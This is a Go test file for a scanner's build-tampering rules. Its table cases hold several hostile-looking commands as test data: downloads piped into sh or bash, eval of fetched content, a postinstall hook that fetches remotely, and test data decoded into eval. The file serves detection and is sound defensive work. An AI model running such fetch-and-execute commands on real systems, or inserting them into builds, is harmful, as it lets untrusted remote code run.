package buildtamper

import (
	"glassbox.dev/scan/rules/internal/ruletest"
	"testing"

	"glassbox.dev"
	"glassbox.dev/scan"
)

// file builds a scan.File the way the engine would for a path.
func file(path string, content []byte) *scan.File { return ruletest.File(path, content) }

// TestSpecifics pins down severities and the boundaries of each rule.
func TestSpecifics(t *testing.T) {
	tests := []struct {
		name, path, content string
		rule                string // "" means no finding at all
		sev                 glassbox.Severity
	}{
		{"curl to sh in a script", "install.sh", "curl -sL https://x.invalid | sudo bash\n", "GB0601", glassbox.SeverityHigh},
		{"curl to sh in a test script is a low fixture", "tests/install.sh", "curl -sL https://x.invalid | bash\n", "GB0601", glassbox.SeverityLow},
		{"curl to sh in prose", "docs/install.md", "curl -sL https://x.invalid | bash\n", "", ""},
		{"curl to a file", "install.sh", "curl -sLo out.tgz https://x.invalid/out.tgz\ntar xzf out.tgz\n", "", ""},
		{"curl to sh echoed by a script", "install.sh", "echo 'run: curl -sL https://x.invalid | sh'\n", "", ""},
		{"curl to sh in a script's comment", "install.sh", "# curl -sL https://x.invalid | sh\n", "", ""},
		{"curl to sh in a here-document for cat", "install.sh", "cat <<EOF\ncurl -sL https://x.invalid | sh\nEOF\n", "", ""},
		{"curl to sh in a here-document piped to sh", "install.sh", "cat <<EOF | sh\ncurl -sL https://x.invalid | sh\nEOF\n", "GB0601", glassbox.SeverityHigh},
		{"curl to sh in a command substitution echoed", "install.sh", "echo \"$(curl -sL https://x.invalid | sh)\"\n", "GB0601", glassbox.SeverityHigh},
		{"curl to sh handed to sh -c", "install.sh", "sh -c 'curl -sL https://x.invalid | sh'\n", "GB0601", glassbox.SeverityHigh},
		{"curl to sh in a variable then eval'd", "install.sh", "X='curl -sL https://x.invalid | sh'\neval \"$X\"\n", "GB0601", glassbox.SeverityHigh},
		{"curl to sh in a Makefile recipe", "Makefile", "all:\n\t@curl -sL https://x.invalid | sh\n", "GB0601", glassbox.SeverityHigh},
		{"curl to sh in a Makefile's help", "Makefile", "help:\n\t@echo \"curl -sL https://x.invalid | sh\"\n", "", ""},
		{"curl to sh run by make's $(shell)", "Makefile", "X := $(shell curl -sL https://x.invalid | sh)\n", "GB0601", glassbox.SeverityHigh},
		// league/commonmark 2.3.9's docker/Dockerfile installs the Blackfire
		// client into the image: downloaded, made executable, never run.
		{"download made executable, installed, not run", "docker/Dockerfile", "RUN set -xe \\\n        && curl -A \"Docker\" -o /tmp/blackfire/blackfire -D - -L -s https://packages.invalid/blackfire-linux_amd64 \\\n        && mv /tmp/blackfire/blackfire /usr/bin/blackfire \\\n        && chmod +x /usr/bin/blackfire\n", "GB0601", glassbox.SeverityLow},
		{"download made executable and run", "install.sh", "curl -sSL -o /tmp/tool https://x.invalid/tool\nchmod +x /tmp/tool\n/tmp/tool --install\n", "GB0601", glassbox.SeverityHigh},
		{"download made executable and run after &&", "Dockerfile", "RUN curl -o /usr/local/bin/tool https://x.invalid/tool && chmod 755 /usr/local/bin/tool && tool setup\n", "GB0601", glassbox.SeverityHigh},
		// testify 1.12.1's .ci.ghactions.sh: eval of a comparison's result.
		{"eval of a jq comparison of a download", "ci.sh", "eval \"$( curl -s https://x.invalid/commits/main | jq -r '.sha == \"'\"$hash\"'\"' )\"\n", "", ""},
		{"eval of a count of a download", "ci.sh", "eval \"$(curl -s https://x.invalid/list | grep -c ok)\"\n", "", ""},
		{"eval of a jq field of a download", "ci.sh", "eval \"$(curl -s https://x.invalid/cfg | jq -r '.script')\"\n", "GB0601", glassbox.SeverityHigh},
		{"eval of a jq conditional of a download", "ci.sh", "eval \"$(curl -s https://x.invalid/cfg | jq -r 'if .a == 1 then .script else \"\" end')\"\n", "GB0601", glassbox.SeverityHigh},
		{"eval of a grep of a download", "ci.sh", "eval \"$(curl -s https://x.invalid/cfg | grep -v '^#')\"\n", "GB0601", glassbox.SeverityHigh},
		{"bash of a process substitution ending in a count", "ci.sh", "bash <(curl -s https://x.invalid/i.sh | wc -l)\n", "", ""},
		{"sh -c of curl", "Dockerfile", "RUN sh -c \"$(curl -fsSL https://x.invalid/i.sh)\"\n", "GB0601", glassbox.SeverityHigh},
		{"postinstall runs node", "package.json", `{"scripts":{"postinstall":"node scripts/postinstall.js"}}`, "GB0602", glassbox.SeverityMedium},
		{"postinstall downloads", "package.json", `{"scripts":{"postinstall":"node -e \"require('https').get('https://x.invalid')\""}}`, "GB0602", glassbox.SeverityHigh},
		{"postinstall echoes", "package.json", `{"scripts":{"postinstall":"echo thanks"}}`, "", ""},
		{"invalid package.json", "package.json", `{"scripts":{"postinstall":`, "", ""},
		{"test data decoded into eval", "configure", "cat tests/files/x.bin | tr '\\t ' ' \\t' | eval\n", "GB0603", glassbox.SeverityCritical},
		{"test data only checked", "Makefile", "check:\n\txz -t tests/files/good.xz\n", "", ""},
		{"sed -i on Makefile from configure", "configure", "sed -i 's/x/y/' Makefile\n", "GB0604", glassbox.SeverityHigh},
		{"sed -i on Makefile from make", "Makefile", "fix:\n\tsed -i 's/x/y/' Makefile\n", "", ""},
	}
	a := New()
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			fs := a.Analyze(file(tc.path, []byte(tc.content)))
			if tc.rule == "" {
				if len(fs) != 0 {
					t.Fatalf("want no finding, got %+v", fs)
				}
				return
			}
			for _, f := range fs {
				if f.RuleID == tc.rule {
					if f.Severity != tc.sev {
						t.Errorf("severity %s, want %s", f.Severity, tc.sev)
					}
					return
				}
			}
			t.Fatalf("no %s finding in %+v", tc.rule, fs)
		})
	}
}

// TestRules checks the rule table: IDs in the family's range, each once.
func TestRules(t *testing.T) { ruletest.Rules(t, New(), "GB06", Family) }

// FuzzAnalyze checks that no input makes the analyser panic and that
// every finding's region lies inside the file.
func FuzzAnalyze(f *testing.F) {
	ruletest.Fuzz(f, New())
}

// TestCorpus is the specification by example (see ruletest.Corpus).
func TestCorpus(t *testing.T) { ruletest.Corpus(t, New(), ruletest.AsNamed) }

// TestConcurrent runs the analyser from many goroutines (run with -race).
func TestConcurrent(t *testing.T) { ruletest.Concurrent(t, New(), ruletest.AsNamed) }

// BenchmarkGOROOT measures throughput on the Go source tree
// (GOROOT_FOR_BENCH=$(go env GOROOT)/src).
func BenchmarkGOROOT(b *testing.B) { ruletest.Throughput(b, New()) }

// TestGOROOTReport lists what the analyser finds in the Go source tree; it
// runs only when GOROOT_FOR_BENCH is set.
func TestGOROOTReport(t *testing.T) { ruletest.Report(t, New()) }
